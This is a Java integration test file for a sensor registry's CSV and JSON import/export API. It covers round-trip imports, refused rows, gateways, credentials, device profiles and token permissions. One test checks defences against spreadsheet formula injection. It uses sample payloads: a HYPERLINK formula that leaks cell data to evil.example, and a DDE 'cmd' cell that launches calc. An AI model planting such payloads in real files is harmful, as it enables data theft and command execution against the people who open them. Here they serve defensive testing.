package io.lockwatch.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.apache.camel.test.spring.junit5.CamelSpringBootTest;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * The registry as a file over HTTP: a CSV imported all or nothing, again without a change, exported back as the
 * same rows; refused rows named by number; the JSON form; who may import.
 */
@CamelSpringBootTest
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class RegistryFileApiTest {

    static final String ADMIN = "test-admin-token", READER = "test-read-token";
    static final String HEADER = "sensor_id,address,heartbeat_timeout_seconds,open_alarm_seconds,client_name,client_url";
    /** The columns of a sensor's gateways and credential too. */
    static final String DEVICES_HEADER = HEADER + ",gateways,credential";
    /** What an export writes: the columns of a sensor's gateways, credential and device too, empty when it has none. */
    static final String EXPORT_HEADER = DEVICES_HEADER + ",profile,device_id";
    static final ObjectMapper JSON = new ObjectMapper();
    static final HttpClient HTTP = HttpClient.newHttpClient();

    @LocalServerPort int port;
    @Autowired JdbcTemplate jdbc;

    record Answer(int status, String contentType, String body) {
        JsonNode json() throws Exception {
            return JSON.readTree(body);
        }
    }

    @Test
    void aFileIsImportedOnceReimportedWithoutAChangeAndExportedAsTheSameRows() throws Exception {
        String p = prefix();
        // sorted by sensor id, then client name: the order of an export
        List<String> rows = List.of(
                p + "A,\"Svobody st. 23, fl 1\",,,Acme " + p + ",http://127.0.0.1:9/acme",
                p + "A,\"Svobody st. 23, fl 1\",,,Guards " + p + ",http://127.0.0.1:9/guards",
                p + "B,\"The \"\"back\"\" door\",600,120,Acme " + p + ",http://127.0.0.1:9/acme",
                p + "C,Cellar,,,,");
        String file = HEADER + "\n" + String.join("\n", rows) + "\n";

        Answer first = post(file, "text/csv", ADMIN);
        assertThat(first.status()).as(first.body()).isEqualTo(200);
        JsonNode outcome = first.json();
        assertThat(outcome.get("rows").asInt()).isEqualTo(4);
        assertThat(outcome.at("/sensors/created").asInt()).isEqualTo(3);
        assertThat(outcome.at("/clients/created").asInt()).isEqualTo(2);
        assertThat(outcome.at("/links/added").asInt()).isEqualTo(3);
        assertThat(outcome.get("new_clients").findValuesAsText("webhook_secret")).hasSize(2)
                .allSatisfy(s -> assertThat(s).startsWith("whsec_"));
        assertThat(jdbc.queryForObject("SELECT heartbeat_timeout_seconds FROM sensors WHERE id = ?", Integer.class, p + "B"))
                .isEqualTo(600);
        assertThat(jdbc.queryForObject("SELECT address FROM sensors WHERE id = ?", String.class, p + "B"))
                .isEqualTo("The \"back\" door");

        JsonNode again = post(file, "text/csv", ADMIN).json();
        assertThat(again.at("/sensors/created").asInt() + again.at("/sensors/updated").asInt()).isZero();
        assertThat(again.at("/sensors/unchanged").asInt()).isEqualTo(3);
        assertThat(again.at("/clients/created").asInt() + again.at("/clients/updated").asInt()).isZero();
        assertThat(again.at("/links/added").asInt() + again.at("/links/removed").asInt()).isZero();
        assertThat(again.get("new_clients")).isEmpty();

        Answer export = get("csv", READER);
        assertThat(export.status()).isEqualTo(200);
        assertThat(export.contentType()).startsWith("text/csv");
        List<String> lines = Arrays.asList(export.body().split("\r?\n"));
        assertThat(lines.get(0)).isEqualTo(EXPORT_HEADER);
        assertThat(lines.stream().filter(l -> l.startsWith(p)).toList())
                .containsExactlyElementsOf(rows.stream().map(r -> r + ",,,,").toList());
    }

    /**
     * Cells a spreadsheet would run (issue 36): exported with a leading {@code '}, stored and imported without it; a
     * round trip changes nothing, and an address that starts with an apostrophe of its own keeps it.
     */
    @Test
    void formulaLikeCellsAreExportedAsTextAndARoundTripChangesNothing() throws Exception {
        String p = prefix();
        List<String> addresses = List.of("=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")", "+1 555 0100 lobby",
                "-2 basement", "@SUM(1+1)", "'=already marked", "''two marks", "'Tween Bridges", "\tTabbed");
        StringBuilder file = new StringBuilder(HEADER).append('\n');
        for (int i = 0; i < addresses.size(); i++) {
            file.append(p).append((char) ('A' + i)).append(',').append(quoted(addresses.get(i)))
                    .append(",,,=cmd|' /C calc'!A0 ").append(p).append(",http://127.0.0.1:9/f\n");
        }
        assertThat(post(file.toString(), "text/csv", ADMIN).status()).isEqualTo(200);
        // stored as the file meant them: the mark an export puts is taken off, a hand-written apostrophe kept
        assertThat(jdbc.queryForObject("SELECT address FROM sensors WHERE id = ?", String.class, p + "A"))
                .isEqualTo(addresses.get(0));
        assertThat(jdbc.queryForObject("SELECT address FROM sensors WHERE id = ?", String.class, p + "E")).isEqualTo("=already marked");
        assertThat(jdbc.queryForObject("SELECT address FROM sensors WHERE id = ?", String.class, p + "F")).isEqualTo("'two marks");
        assertThat(jdbc.queryForObject("SELECT address FROM sensors WHERE id = ?", String.class, p + "G")).isEqualTo("'Tween Bridges");

        String exported = get("csv", READER).body();
        List<String> ours = Arrays.stream(exported.split("\r?\n")).filter(l -> l.startsWith(p)).toList();
        assertThat(ours).hasSize(addresses.size());
        for (String line : ours) {
            String address = line.substring(line.indexOf(',') + 1);
            // no cell of ours starts with what a spreadsheet runs, quoted or not
            assertThat(address.replaceFirst("^\"", "")).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                    .doesNotStartWith("@").doesNotStartWith("\t");
            assertThat(line).contains(",'=cmd|");
        }

        JsonNode again = post(EXPORT_HEADER + "\n" + String.join("\n", ours) + "\n", "text/csv", ADMIN).json();
        assertThat(again.at("/sensors/unchanged").asInt()).isEqualTo(addresses.size());
        assertThat(again.at("/sensors/updated").asInt() + again.at("/clients/updated").asInt() + again.at("/clients/created").asInt())
                .isZero();
        String exportedAgain = get("csv", READER).body();
        assertThat(Arrays.stream(exportedAgain.split("\r?\n")).filter(l -> l.startsWith(p)).toList()).isEqualTo(ours);
    }

    private static String quoted(String cell) {
        return "\"" + cell.replace("\"", "\"\"") + "\"";
    }

    @Test
    void aSensorsLinksBecomeThoseOfTheFileAndAChangedAddressIsApplied() throws Exception {
        String p = prefix();
        post(HEADER + "\n" + p + "A,Hall,,,One " + p + ",http://127.0.0.1:9/one\n"
                + p + "A,Hall,,,Two " + p + ",http://127.0.0.1:9/two\n", "text/csv", ADMIN);

        JsonNode changed = post(HEADER + "\n" + p + "A,Hall 2,,,Two " + p + ",http://127.0.0.1:9/two-moved\n",
                "text/csv", ADMIN).json();

        assertThat(changed.at("/sensors/updated").asInt()).isEqualTo(1);
        assertThat(changed.at("/clients/updated").asInt()).isEqualTo(1);
        assertThat(changed.at("/links/removed").asInt()).isEqualTo(1);
        assertThat(jdbc.queryForList("""
                SELECT c.name || ' ' || c.url FROM client_sensors cs JOIN clients c ON c.id = cs.client_id
                 WHERE cs.sensor_id = ?""", String.class, p + "A"))
                .containsExactly("Two " + p + " http://127.0.0.1:9/two-moved");
        assertThat(jdbc.queryForObject("SELECT address FROM sensors WHERE id = ?", String.class, p + "A")).isEqualTo("Hall 2");
    }

    @Test
    void aLinkTheFileNoLongerNamesHasItsPendingNotificationsCancelledAsAnUnlinkDoes() throws Exception {
        String p = prefix();
        post(HEADER + "\n" + p + "A,Hall,,,Gone " + p + ",http://127.0.0.1:9/gone\n", "text/csv", ADMIN);
        UUID client = jdbc.queryForObject("SELECT id FROM clients WHERE name = ?", UUID.class, "Gone " + p);
        Long event = jdbc.queryForObject("""
                INSERT INTO sensor_events (sensor_id, sequence, type, state, previous_state, occurred_at)
                VALUES (?, 1, 'sensor.state_changed', 0, 1, now()) RETURNING id""", Long.class, p + "A");
        jdbc.update("""
                INSERT INTO notifications (event_id, client_id, sensor_id, type, sequence, status, next_attempt_at)
                VALUES (?, ?, ?, 'sensor.state_changed', 1, 'pending', now() + interval '1 hour')""", event, client, p + "A");

        JsonNode unlinked = post(HEADER + "\n" + p + "A,Hall,,,,\n", "text/csv", ADMIN).json();

        assertThat(unlinked.at("/links/removed").asInt()).isEqualTo(1);
        assertThat(jdbc.queryForObject("SELECT status FROM notifications WHERE client_id = ?", String.class, client))
                .isEqualTo("cancelled");
    }

    @Test
    void aFileWithBadRowsIsRefusedWholeWithEachRowNamed() throws Exception {
        String p = prefix();
        Answer refused = post(HEADER + "\n"
                + p + "A,Good,,,,\n"
                + "bad-id!,Somewhere,,,,\n"
                + p + "B,,,,,\n"
                + p + "C,Attic,0,,,\n"
                + p + "D,Porch,,,Nameless " + p + ",\n"
                + p + "A,Not good,,,,\n", "text/csv", ADMIN);

        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.contentType()).startsWith("application/problem+json");
        JsonNode problem = refused.json();
        assertThat(problem.get("detail").asText()).startsWith("5 rows are refused");
        assertThat(problem.get("errors").findValuesAsText("")).isEmpty();
        List<String> errors = JSON.convertValue(problem.get("errors"), JSON.getTypeFactory()
                .constructCollectionType(List.class, String.class));
        assertThat(errors).containsExactly(
                "row 2: sensor_id: must match ^[0-9A-Za-z]{1,16}$",
                "row 3: address: required",
                "row 4: heartbeat_timeout_seconds: must be at least 1",
                "row 5: client_url: a client is given by client_name and client_url together, or not at all",
                "row 6: sensor " + p + "A has another address than on row 1");
        assertThat(jdbc.queryForObject("SELECT count(*) FROM sensors WHERE id LIKE ?", Integer.class, p + "%")).isZero();
    }

    /**
     * A sensor's gateways and credential as the file says: gateways created and joined, a credential made (its
     * secret answered once, and good for logging in), the same file again changing nothing, the export giving them
     * back; then "none" revoking and a shorter list of gateways leaving the others. An empty cell leaves both.
     */
    @Test
    void gatewaysAndCredentialsAreWhatTheFileSaysAndTheirSecretsAreShownOnce() throws Exception {
        String p = prefix();
        String file = DEVICES_HEADER + "\n"
                + p + "A,Hall,,,,,Gw2" + p + " Gw1" + p + ",live\n"
                + p + "B,Yard,,,,,-,live\n"
                + p + "C,Cellar,,,,,,\n";

        Answer first = post(file, "text/csv", ADMIN);

        assertThat(first.status()).as(first.body()).isEqualTo(200);
        JsonNode outcome = first.json();
        assertThat(outcome.at("/gateways/created").asInt()).isEqualTo(2);
        assertThat(outcome.at("/gateways/sensors_added").asInt()).isEqualTo(2);
        assertThat(outcome.at("/credentials/created").asInt()).isEqualTo(2);
        assertThat(outcome.get("new_credentials").findValuesAsText("sensor_id")).containsExactly(p + "A", p + "B");
        for (JsonNode c : outcome.get("new_credentials")) {
            assertThat(c.get("secret").asText()).startsWith("lwd_");
            assertThat(devices.authenticate(c.get("login").asText(), c.get("secret").asText())).isTrue();
        }
        String secretOfA = outcome.get("new_credentials").get(0).get("secret").asText();
        assertThat(jdbc.queryForList("SELECT gateway_id FROM gateway_sensors WHERE sensor_id = ? ORDER BY 1", String.class,
                p + "A")).containsExactly("Gw1" + p, "Gw2" + p);

        JsonNode again = post(file, "text/csv", ADMIN).json();
        assertThat(again.get("new_credentials")).isEmpty();
        assertThat(again.at("/credentials/created").asInt() + again.at("/credentials/revoked").asInt()
                + again.at("/gateways/created").asInt() + again.at("/gateways/sensors_added").asInt()
                + again.at("/gateways/sensors_removed").asInt()).isZero();
        List<String> exported = Arrays.stream(get("csv", READER).body().split("\r?\n")).filter(l -> l.startsWith(p)).toList();
        assertThat(exported).containsExactly(
                p + "A,Hall,,,,,Gw1" + p + " Gw2" + p + ",live,,",
                p + "B,Yard,,,,,,live,,",
                p + "C,Cellar,,,,,,,,");

        JsonNode revoked = post(DEVICES_HEADER + "\n" + p + "A,Hall,,,,,Gw1" + p + ",none\n", "text/csv", ADMIN).json();
        assertThat(revoked.at("/credentials/revoked").asInt()).isEqualTo(1);
        assertThat(revoked.at("/gateways/sensors_removed").asInt()).isEqualTo(1);
        assertThat(devices.authenticate("sensor." + p + "A", secretOfA)).isFalse();
        assertThat(jdbc.queryForList("SELECT gateway_id FROM gateway_sensors WHERE sensor_id = ?", String.class, p + "A"))
                .containsExactly("Gw1" + p);
    }

    @Test
    void aSensorsGatewaysAndCredentialMustAgreeOnEachOfItsRowsAndBeWellFormed() throws Exception {
        String p = prefix();
        Answer refused = post(DEVICES_HEADER + "\n"
                + p + "A,Hall,,,One " + p + ",http://127.0.0.1:9/one,Gw" + p + ",live\n"
                + p + "A,Hall,,,Two " + p + ",http://127.0.0.1:9/two,Gw" + p + ",\n"
                + p + "B,Yard,,,,,not/an id,\n"
                + p + "C,Cellar,,,,,,maybe\n", "text/csv", ADMIN);

        assertThat(refused.status()).as(refused.body()).isEqualTo(400);
        List<String> errors = JSON.convertValue(refused.json().get("errors"), JSON.getTypeFactory()
                .constructCollectionType(List.class, String.class));
        assertThat(String.join("\n", errors)).contains("row 2:").contains("has another credential than on row 1")
                .contains("row 3: gateways").contains("row 4: credential: must be one of live, none");
        assertThat(jdbc.queryForObject("SELECT count(*) FROM gateways WHERE id = ?", Integer.class, "Gw" + p)).isZero();
    }

    @Autowired io.lockwatch.devices.Devices devices;

    /**
     * A sensor's device profile and id (issue 57) are what the file says, checked as the sensor operations check them,
     * and the profile's heartbeat timeout comes with it; '-' takes them away, empty leaves them; two of the file's
     * sensors may trade devices; a device is one sensor's.
     */
    @Test
    void profilesAndDevicesAreWhatTheFileSaysOneSensorPerDevice() throws Exception {
        String p = prefix();
        String x = hex16(), y = hex16();
        String file = EXPORT_HEADER + "\n"
                + p + "A,Hall,,,,,,,zigbee2mqtt,hall/" + p + "\n"
                + p + "B,Dock,,,,,,,dragino-lds02," + x.toUpperCase() + "\n"
                + p + "C,Cellar,,,,,,,,\n"
                + p + "D,Gate,,,,,,,dragino-lds02," + y + "\n";

        Answer first = post(file, "text/csv", ADMIN);

        assertThat(first.status()).as(first.body()).isEqualTo(200);
        assertThat(device(p + "A")).isEqualTo("zigbee2mqtt hall/" + p);
        assertThat(device(p + "B")).isEqualTo("dragino-lds02 " + x); // a DevEUI as ChirpStack writes it
        assertThat(device(p + "C")).isEqualTo("-");
        // the profile's heartbeat timeout (49 h) is the one that applies to a sensor without its own
        assertThat(jdbc.queryForObject("SELECT heartbeat_timeout_seconds FROM sensor_state WHERE sensor_id = ?",
                Integer.class, p + "B")).isEqualTo(49 * 3600);
        assertThat(post(file, "text/csv", ADMIN).json().at("/sensors/unchanged").asInt()).isEqualTo(4);
        List<String> exported = Arrays.stream(get("csv", READER).body().split("\r?\n")).filter(l -> l.startsWith(p)).toList();
        assertThat(exported).containsExactly(p + "A,Hall,,,,,,,zigbee2mqtt,hall/" + p,
                p + "B,Dock,,,,,,,dragino-lds02," + x, p + "C,Cellar,,,,,,,,", p + "D,Gate,,,,,,,dragino-lds02," + y);
        // the export imported again changes nothing
        assertThat(post(EXPORT_HEADER + "\n" + String.join("\n", exported) + "\n", "text/csv", ADMIN).json()
                .at("/sensors/unchanged").asInt()).isEqualTo(4);

        // B and D trade devices, A has none any more, C is left as it is
        JsonNode changed = post(EXPORT_HEADER + "\n"
                + p + "A,Hall,,,,,,,-,\n"
                + p + "B,Dock,,,,,,,dragino-lds02," + y + "\n"
                + p + "C,Cellar,,,,,,,,\n"
                + p + "D,Gate,,,,,,,dragino-lds02," + x + "\n", "text/csv", ADMIN).json();

        assertThat(changed.at("/sensors/updated").asInt()).isEqualTo(3);
        assertThat(device(p + "A")).isEqualTo("-");
        assertThat(device(p + "B")).isEqualTo("dragino-lds02 " + y);
        assertThat(device(p + "D")).isEqualTo("dragino-lds02 " + x);
        assertThat(jdbc.queryForObject("SELECT heartbeat_timeout_seconds FROM sensor_state WHERE sensor_id = ?",
                Integer.class, p + "A")).isNull();
        // a row that leaves the device empty changes the rest and keeps the device
        assertThat(post(EXPORT_HEADER + "\n" + p + "B,Dock 2,,,,,,,,\n", "text/csv", ADMIN).json()
                .at("/sensors/updated").asInt()).isEqualTo(1);
        assertThat(device(p + "B")).isEqualTo("dragino-lds02 " + y);

        Answer refused = post(EXPORT_HEADER + "\n"
                + p + "E,One,,,,,,,zigbee2mqtt,twin/" + p + "\n"
                + p + "F,Two,,,,,,,zigbee2mqtt,twin/" + p + "\n"
                + p + "G,Three,,,,,,,dragino-lds02," + x + "\n"
                + p + "H,Four,,,,,,,no-such-profile,h" + p + "\n"
                + p + "I,Five,,,,,,,zigbee2mqtt,\n"
                + p + "J,Six,,,,,,,-,j" + p + "\n"
                + p + "K,Seven,,,,,,,dragino-lds02,not-a-deveui\n"
                + p + "L,Eight,,,,,,,zigbee2mqtt," + p + "/#\n", "text/csv", ADMIN);

        assertThat(refused.status()).as(refused.body()).isEqualTo(400);
        assertThat(String.join("\n", JSON.convertValue(refused.json().get("errors"), String[].class)))
                .contains("row 2: device twin/" + p + " is sensor " + p + "E's on row 1")
                .contains("row 3: device " + x + " is sensor " + p + "D's already")
                .contains("row 4: profile: unknown device profile no-such-profile")
                .contains("row 5: device_id: profile and device_id go together")
                .contains("row 6: device_id: a sensor without a profile ('-') has no device_id")
                .contains("row 7: device_id: a LoRaWAN device's id is its DevEUI")
                .contains("row 8: device_id: device_id is a device's id in its network's topics");
        assertThat(jdbc.queryForObject("SELECT count(*) FROM sensors WHERE id = ?", Integer.class, p + "E")).isZero();
    }

    @Autowired io.lockwatch.registry.RegistryImports imports;

    /**
     * A device the file names, given to another sensor through the API after the file was checked and before it is
     * applied: the file is refused whole (409 through the API), not a fault.
     */
    @Test
    void aDeviceGivenAwayBetweenTheCheckAndTheApplyRefusesTheFileWhole() throws Exception {
        String p = prefix();
        io.lockwatch.registry.RegistryFile file = imports.file();
        UUID id = UUID.randomUUID();
        try (io.lockwatch.registry.RegistryFile.Staging staging = file.stage(id)) {
            staging.add(1, new io.lockwatch.registry.RegistryFile.Row(p + "A", "Hall", null, null, null, null, null, null,
                    "zigbee2mqtt", "hall/" + p));
            staging.add(2, new io.lockwatch.registry.RegistryFile.Row(p + "B", "Yard", null, null, null, null, null, null,
                    null, null));
            staging.commit();
        }
        assertThat(file.conflicts(id, 10)).isNull();
        jdbc.update("INSERT INTO sensors (id, address, profile, device_id) VALUES (?, 'Elsewhere', 'zigbee2mqtt', ?)",
                p + "X", "hall/" + p);

        org.assertj.core.api.Assertions.assertThatThrownBy(() -> file.applyAll(id, step -> { }))
                .isInstanceOf(io.lockwatch.registry.RegistryFile.ChangedMeanwhile.class);
        file.discard(id);
        assertThat(jdbc.queryForObject("SELECT count(*) FROM sensors WHERE id IN (?, ?)", Integer.class, p + "A", p + "B"))
                .as("nothing of the file").isZero();
    }

    private String device(String sensor) {
        return jdbc.queryForObject("SELECT coalesce(profile || ' ' || device_id, '-') FROM sensors WHERE id = ?",
                String.class, sensor);
    }

    private static String hex16() {
        return UUID.randomUUID().toString().replace("-", "").substring(0, 16);
    }

    @Test
    void theJsonFormTakesTheSameRows() throws Exception {
        String p = prefix();
        String rows = JSON.writeValueAsString(List.of(
                java.util.Map.of("sensor_id", p + "J", "address", "Gate", "client_name", "Json " + p,
                        "client_url", "http://127.0.0.1:9/json")));
        Answer imported = post(rows, "application/json", ADMIN);
        assertThat(imported.status()).as(imported.body()).isEqualTo(200);
        assertThat(imported.json().at("/links/added").asInt()).isEqualTo(1);

        Answer export = get("json", READER);
        assertThat(export.contentType()).startsWith("application/json");
        JsonNode mine = null;
        for (JsonNode row : export.json()) {
            if (row.get("sensor_id").asText().equals(p + "J")) {
                mine = row;
            }
        }
        assertThat(mine).isNotNull();
        assertThat(mine.get("client_url").asText()).isEqualTo("http://127.0.0.1:9/json");
        assertThat(mine.get("heartbeat_timeout_seconds").isNull()).isTrue();
    }

    @Test
    void sensorsAreFoundByTheStartOfTheirIdOrAddressInAnyCase() throws Exception {
        String p = prefix();
        post(HEADER + "\n" + p + "A,Lenina st. 5 gate,,,,\n" + p + "B,lenina st. 7 door,,,,\n"
                + p + "C,100% Steel st. 1,,,,\n", "text/csv", ADMIN);

        assertThat(idsFound(p)).containsExactly(p + "A", p + "B", p + "C");
        assertThat(idsFound("LENINA st. ")).contains(p + "A", p + "B").doesNotContain(p + "C");
        // the operator's text is taken as it is: % and _ match only themselves
        assertThat(idsFound("1%steel")).doesNotContain(p + "C");
        assertThat(idsFound("1_0% steel")).doesNotContain(p + "C");
        assertThat(idsFound("100% steel")).contains(p + "C");
        assertThat(idsFound("%")).doesNotContain(p + "A");
    }

    private List<String> idsFound(String q) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/v1/sensors?limit=1000&q="
                        + java.net.URLEncoder.encode(q, java.nio.charset.StandardCharsets.UTF_8)))
                .header("Authorization", "Bearer " + READER).GET().build();
        HttpResponse<String> r = HTTP.send(request, HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        return JSON.readTree(r.body()).get("items").findValuesAsText("id");
    }

    @Test
    void aReadTokenMayExportButNotImport() throws Exception {
        Answer answer = post(HEADER + "\n" + prefix() + "R,Room,,,,\n", "text/csv", READER);
        assertThat(answer.status()).isEqualTo(403);
    }

    @Test
    void aClientNameThatSeveralClientsHaveIsRefused() throws Exception {
        String p = prefix();
        for (int i = 0; i < 2; i++) {
            jdbc.update("INSERT INTO clients (name, url, webhook_secret) VALUES (?, 'http://127.0.0.1:9/x', 'whsec_AAAA')",
                    "Twin " + p);
        }
        Answer refused = post(HEADER + "\n" + p + "T,Tower,,,Twin " + p + ",http://127.0.0.1:9/x\n", "text/csv", ADMIN);
        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.json().get("errors").get(0).asText())
                .isEqualTo("row 1: client_name: 2 clients are named Twin " + p + ": rename all but one (PUT /clients/{id}) to link by this name");
        assertThat(jdbc.queryForObject("SELECT count(*) FROM sensors WHERE id = ?", Integer.class, p + "T")).isZero();
    }

    private static String prefix() {
        return "F" + UUID.randomUUID().toString().replace("-", "").substring(0, 8);
    }

    private Answer post(String body, String type, String token) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/v1/import"))
                .header("Authorization", "Bearer " + token).header("Content-Type", type)
                .POST(HttpRequest.BodyPublishers.ofString(body)).build();
        return answer(HTTP.send(request, HttpResponse.BodyHandlers.ofString()));
    }

    private Answer get(String format, String token) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/v1/export?format=" + format))
                .header("Authorization", "Bearer " + token).GET().build();
        return answer(HTTP.send(request, HttpResponse.BodyHandlers.ofString()));
    }

    private static Answer answer(HttpResponse<String> r) {
        return new Answer(r.statusCode(), r.headers().firstValue("Content-Type").orElse(""), r.body());
    }
}
